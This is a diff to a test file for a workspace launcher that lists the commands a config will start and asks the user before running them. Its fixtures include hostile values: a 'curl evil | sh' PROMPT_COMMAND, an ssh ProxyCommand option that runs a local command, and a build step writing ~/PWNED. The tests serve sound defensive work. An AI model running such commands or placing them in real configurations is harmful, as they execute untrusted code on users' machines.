@@ -148,7 +148,8 @@ describe('what a workspace starts, shown before it starts', () => {
     const ws = loaded(file);
     const lines = summarizeWorkspace(ws, 'belltower.json', { env: { PATH: '/usr/bin:/bin', SHELL: '/bin/bash' }, findProgram, home: '/nonexistent' });
     expect(lines[0]).toBe(`belltower.json (${fs.realpathSync(file)}) starts 3 tiles:`);
-    expect(lines).toContain("  1 build: /bin/sh -c 'id > ~/PWNED'");
+    expect(lines).toContain('  1 build: id > ~/PWNED');
+    expect(lines[lines.indexOf('  1 build: id > ~/PWNED') + 1]).toBe('      a shell command line, run by /bin/sh -c');
     expect(lines).toContain("      sets PROMPT_COMMAND='curl evil | sh'   ! can make the program run other code");
     expect(lines.find((l) => l.startsWith('  3 claude: ssh'))).toContain("'-oProxyCommand=touch /tmp/x'");
     expect(lines).toContain('      ! ssh option ProxyCommand runs a command on this machine');
@@ -231,7 +232,7 @@ describe('the question before a workspace starts', () => {
     const gate = (reply: boolean | null) => ({ ask: answer(reply), show: (l: string) => shown.push(l), out, stateDir: state });
     expect(await admitWorkspace(loaded(file), 'belltower.json', gate(false))).toBe(2);
     expect(asked).toEqual([false]);
-    expect(shown).toContain("  1 build: /bin/sh -c 'id > ~/PWNED'");
+    expect(shown).toContain('  1 build: id > ~/PWNED');
     expect(errors.at(-1)).toMatch(/nothing started/);
     expect(await admitWorkspace(loaded(file), 'belltower.json', gate(null))).toBe(130);
     expect(await admitWorkspace(loaded(file), 'belltower.json', gate(true))).toBeNull();
@@ -243,6 +244,6 @@ describe('the question before a workspace starts', () => {
     expect(await admitWorkspace(loaded(file), 'belltower.json', gate(false))).toBe(2);
     expect(asked).toHaveLength(4);
     expect(shown[0]).toMatch(/^belltower\.json changed since you trusted it \(\d{4}-\d\d-\d\d \d\d:\d\d UTC\)/);
-    expect(shown).toContain("  1 build: /bin/sh -c 'id > ~/PWNED2'");
+    expect(shown).toContain('  1 build: id > ~/PWNED2');
   });
 });
